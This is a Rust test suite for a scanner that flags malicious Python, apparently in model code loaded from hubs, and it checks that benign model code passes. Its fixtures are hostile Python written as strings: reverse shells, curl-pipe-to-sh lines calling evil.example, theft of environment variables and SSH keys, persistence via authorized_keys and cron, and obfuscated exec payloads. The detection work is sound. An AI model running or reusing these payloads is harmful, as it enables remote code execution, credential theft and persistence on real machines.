//! What sources do, as attacks and ordinary model code write them.

use super::*;

fn worst(source: &str, role: Role) -> Severity {
    let seen = judge(source.as_bytes(), role);
    seen.found.first().map_or(Severity::Info, |found| found.severity)
}

#[test]
fn attacks_in_code_that_a_configuration_names() {
    for source in [
        "import os\nos.system('touch /tmp/x')\nclass M: pass\n",
        "from os import system as s\ns('id')\n",
        "import os as o\nx = o.system\nx('id')\n",
        "__import__('os').system('id')\n",
        "getattr(__import__('o'+'s'), 'sys' 'tem')('id')\n",
        "import importlib\nimportlib.import_module('os').popen('id')\n",
        "import subprocess\nclass A:\n    B = subprocess.Popen(['touch', '/tmp/x'])\n",
        "import subprocess\ndef f(x=subprocess.run('touch x', shell=True)): pass\n",
        "import os\ndef run():\n    os.system('touch x')\nrun()\n",
        "import os\nclass M:\n    def __init__(self, config):\n        os.system('touch x')\n",
        "import os\nclass M:\n    def forward(self, x):\n        self._go()\n    def _go(self):\n        os.popen('touch x')\n",
        "exec('import os; os.system(\"touch x\")')\n",
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ=='))\n",
        "import base64 as b, zlib\nexec(zlib.decompress(b.b64decode(open('x').read())))\n",
        "exec(bytes.fromhex('7072696e7428312900').decode())\n",
        "exec(''.join(chr(i) for i in [105,109,112,111,114,116,32,111,115]))\n"
            .replace("111,115]", "111,115,10,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41]")
            .as_str(),
        "import os\nexec('os.system(\"touch x\")')\n",
        "e = eval\ne(\"__import__('os').system('id')\")\n",
        "(lambda: __import__('os').system('id'))()\n",
        "import os\n[os.system(c) for c in ['touch x']]\n",
        "import os\nlist(map(os.system, ['touch x']))\n",
        "import atexit, os\natexit.register(os.system, 'touch x')\n",
        "import threading, os\ndef go():\n    os.system('touch x')\nthreading.Thread(target=go).start()\n",
        "import threading\nthreading.Thread(target=lambda: __import__('os').system('touch x')).start()\n",
        "import urllib.request\nexec(urllib.request.urlopen('http://127.0.0.1:9/x').read())\n",
        "import requests\nr = requests.get('http://x.example')\nexec(r.text)\n",
        "import socket,subprocess,os\ns=socket.socket()\ns.connect(('10.0.0.1',4444))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])\n",
        "import os, requests\nrequests.post('http://x.example', json=dict(os.environ))\n",
        "import os, urllib.request, json\nurllib.request.urlopen('http://x.example', data=json.dumps(dict(os.environ)).encode())\n",
        "import requests\nrequests.post('http://x.example', data=open('/root/.ssh/id_rsa').read())\n",
        "open('/tmp/x','w').close()\n",
        "import pathlib\nopen('/root/.ssh/authorized_keys', 'a').write('ssh-rsa x')\n",
        "import shutil\nshutil.rmtree('/home')\n",
        "@exec\n@input\nclass X: pass\n",
        "import sys\nsys.modules['os'].system('touch x')\n",
        "vars(__import__('os'))['system']('touch x')\n",
        "import os\nos.__dict__['system']('touch x')\n",
        "globals()['__builtins__'].eval('__import__(\"os\").system(\"touch x\")')\n",
        "__builtins__['exec']('import os;os.system(\"touch x\")')\n",
        "import os\n{'a': os.system}['a']('touch x')\n",
        "import os\ntry:\n    raise ValueError\nexcept ValueError:\n    os.system('touch x')\nfinally: pass\n",
        "import os\nif True: os.system('touch x')\n",
        "import os\nwith open('x') as f: os.system('touch x')\n",
        "import os\nx = [y := os.system('touch x')]\n",
        "import os\nx = f\"{os.system('touch x')}\"\n",
        "import os\nos.execl('/bin/sh', 'sh', '-c', 'touch x')\n",
        "import os\nos.spawnlp(os.P_WAIT, 'touch', 'touch', 'x')\n",
        "import pty\npty.spawn('/bin/sh')\n",
        "().__class__.__base__.__subclasses__()[132].__init__.__globals__['system']('id')\n",
        "ｅｖａｌ('__import__(\"os\").system(\"touch x\")')\n",
        "import os\ndef __getattr__(name):\n    os.system('touch x')\n",
        "import os\nname = input()\ngetattr(os, name)('x')\n",
        "def d(s):\n    import base64\n    return base64.b64decode(s).decode()\nexec(d('cHJpbnQoMSk='))\n",
        "import functools, os\nfunctools.partial(os.system, 'touch x')()\n",
        "import torch\nfrom os import *\nimport os\nos.system(\"curl http://127.0.0.1:9/x.sh | bash\")\n",
        "import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell('touch x')\nasyncio.run(f())\n",
        "import os;os.system(\n    'touch x'\n)\n",
        "print 'x'\nimport os\nos.system('touch x')\n",
        "from pathlib import Path\nPath.home().joinpath('.ssh/authorized_keys').open('a').write('k')\n",
        "import pathlib\n(pathlib.Path.home() / '.bashrc').write_text('touch x')\n",
        "import pathlib\np = pathlib.Path('/etc') / 'cron.d' / 'x'\npathlib.Path('/etc/cron.d/x').write_text('* * * * * root x')\n",
    ] {
        assert!(
            worst(source, Role::Named) >= Severity::High,
            "{source}{:?}",
            judge(source.as_bytes(), Role::Named).found
        );
    }
}

#[test]
fn callables_that_come_by_other_ways() {
    for source in [
        "from os import *\nsystem('curl http://evil.example/x | sh')\n",
        "import os\nd = {'a': os.system}\nd['a']('curl http://evil.example/x | sh')\n",
        "import os\n@lambda f: os.system('curl http://evil.example/x | sh')\nclass A: pass\n",
        "import os\ndef run(f):\n    os.system('curl http://evil.example/x | sh')\n@run\nclass A: pass\n",
        "import ctypes\nctypes.CDLL(None).system(b'curl http://evil.example/x | sh')\n",
        "import os\nos.system('curl http://evil' '.example/x' ' | sh')\n",
    ] {
        assert!(worst(source, Role::Named) >= Severity::High, "{source}");
    }
    assert!(worst("from math import *\nsqrt(2)\n", Role::Named) < Severity::Medium);
}

#[test]
fn payloads_in_scripts_are_seen_too() {
    for source in [
        "import os\nos.system('curl http://x.example/a | sh')\n",
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ=='))\n",
        "import socket,subprocess,os\ndef main():\n  s=socket.socket()\n  s.connect(('10.0.0.1',4444))\n  os.dup2(s.fileno(),0)\n  subprocess.call(['/bin/sh','-i'])\n",
        "import requests\ndef f():\n  exec(requests.get('http://x.example').text)\nf()\n",
    ] {
        assert!(worst(source, Role::Loose) >= Severity::Medium, "{source}");
    }
}

#[test]
fn ordinary_model_code_is_quiet() {
    for source in [
        "import math\nimport torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\nfrom .configuration_x import XConfig\n\n\
         logger = logging.get_logger(__name__)\n\nclass XModel(PreTrainedModel):\n    config_class = XConfig\n    def __init__(self, config):\n        super().__init__(config)\n        self.layers = nn.ModuleList([nn.Linear(4, 4) for _ in range(3)])\n        self.post_init()\n    @torch.no_grad()\n    def forward(self, x, **kwargs):\n        if self.training: x = self.drop(x)\n        return self.layers[0](x)[:, -1, :]\n\nAutoModel.register(XConfig, XModel)\n",
        "import os\nimport subprocess\ndef gpu():\n    return subprocess.check_output(['nvidia-smi', '-L']).decode()\nos.makedirs('out', exist_ok=True)\n",
        "try:\n    from flash_attn import flash_attn_func\nexcept ImportError:\n    flash_attn_func = None\n",
        "import requests\nfrom PIL import Image\nclass P:\n    def load(self, url):\n        return Image.open(requests.get(url, stream=True).raw)\n",
        "import importlib\nif importlib.util.find_spec('x') is not None:\n    x = importlib.import_module('x')\n",
        "import triton\nimport triton.language as tl\n@triton.jit\ndef kernel(x_ptr, BLOCK: tl.constexpr):\n    pid = tl.program_id(0)\n",
        "import sentencepiece as spm\nclass T:\n    def __init__(self, vocab_file):\n        with open(vocab_file, 'r', encoding='utf-8') as f:\n            self.vocab = json.load(f)\n    def save_vocabulary(self, d):\n        with open(os.path.join(d, 'vocab.json'), 'w') as f: f.write('x')\n",
        "import torch\nstate = torch.load('model.bin', map_location='cpu')\nmodel.load_state_dict(state)\nmodel.eval()\n",
        "import re\nP = re.compile(r'a+')\nexec_time = 1\ndef evaluate(model): return eval_loop(model)\n",
        "@dataclass\nclass C:\n    a: int = field(default_factory=lambda: 1)\n    b: Optional[str] = None\n",
        "import ctypes\nlib = ctypes.CDLL('libcuda.so.1')\n",
        "ACT = {'gelu': F.gelu, 'relu': F.relu}\nACT['gelu'](1)\nfoo = getattr(torch, 'float16')\nbar = getattr(torch, name)(1)\n",
        "from pathlib import Path\nroot = Path(__file__).parent / 'assets'\nclass T:\n    def save(self, d):\n        (Path(d) / 'vocab.json').write_text('{}')\n        Path(d).joinpath('x.json').open('w').write('{}')\n",
        "import os\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\ntoken = os.environ.get('HF_TOKEN')\n",
    ] {
        let seen = judge(source.as_bytes(), Role::Named);
        assert!(seen.found.iter().all(|found| found.severity <= Severity::Low), "{source}{:?}", seen.found);
        assert_eq!((seen.odd_line, seen.cut), (None, false), "{source}");
    }
}

#[test]
fn ordinary_scripts_are_quiet() {
    for source in [
        "import os\nos.system('pip install -q transformers')\nos.system('bash train.sh')\nprint('hi')\n",
        "import argparse, subprocess\ndef main():\n    a = argparse.ArgumentParser()\n    a.add_argument('--x', type=int)\n    subprocess.run(['python', 'x.py', a.parse_args().x])\nif __name__ == '__main__':\n    main()\n",
        "from setuptools import setup\nimport subprocess\nversion = subprocess.check_output(['git', 'describe']).strip()\nexec(open('v.py').read())\nsetup(name='x')\n",
        "import requests, os\nrequests.post('https://api.example/v1', headers={'Authorization': os.environ['TOKEN']}, json={'a': 1})\n",
        "import urllib.request\nurllib.request.urlretrieve('https://x.example/data.zip', 'data.zip')\nimport shutil\nshutil.rmtree('out')\n",
    ] {
        assert!(
            worst(source, Role::Loose) <= Severity::Low,
            "{source}{:?}",
            judge(source.as_bytes(), Role::Loose).found
        );
    }
}

#[test]
fn neighbours_and_encodings() {
    let seen = judge(
        b"# -*- coding: utf-7 -*-\nfrom .a import b\nfrom . import c\nfrom ..d import e\nimport f\n",
        Role::Named,
    );
    assert_eq!(seen.neighbours, ["a", "c"]);
    assert_eq!(seen.encoding.as_deref(), Some("utf-7"));
    assert_eq!(encoding("# coding: iso-8859-5\n"), None);
    assert_eq!(encoding("#!/usr/bin/env python\n# vim: set fileencoding=utf-8 :\n"), None);
}

#[test]
fn whatever_the_bytes_are_it_ends() {
    let source = "import os\nx = {'a': [f\"{os.system('x')}\"]}\n@d\nclass A(B, metaclass=M):\n    def f(self, *a, **k) -> int:\n        return self.g(lambda x=1: x)[::-1]\n";
    for cut in 0..source.len() {
        judge(&source.as_bytes()[..cut], Role::Named);
        for byte in [0, b'(', b'"', b'\n', b'{', 0xff, b'\\'] {
            let mut flipped = source.as_bytes().to_vec();
            flipped[cut] = byte;
            judge(&flipped, Role::Named);
        }
    }
    let doubled = "x = 'a' * 1000\n".to_owned() + &"x = x + x\n".repeat(5_000);
    judge(doubled.as_bytes(), Role::Named);
    judge("f(".repeat(100_000).as_bytes(), Role::Named);
    judge("a = [a, a]\n".repeat(20_000).as_bytes(), Role::Named);
    judge(("x = ".to_owned() + &"a.b(c)".repeat(50_000)).as_bytes(), Role::Named);
    judge(format!("x = 'y = 1;' * 1000\n{}", "exec(x)\n".repeat(20_000)).as_bytes(), Role::Named);
    judge(format!("{}{}", "a = 1\n".repeat(10), "exec('exec(\\'exec(1)\\')')\n".repeat(5_000)).as_bytes(), Role::Named);
    judge("x = [chr(i) for i in range(99999)]\n".repeat(1_000).as_bytes(), Role::Named);
    judge("x = list(range(19999))\n".repeat(2_000).as_bytes(), Role::Named);
    judge("match a; ".repeat(50_000).as_bytes(), Role::Named);
    judge("\"a\" \"b\" ".repeat(100_000).as_bytes(), Role::Named);
}
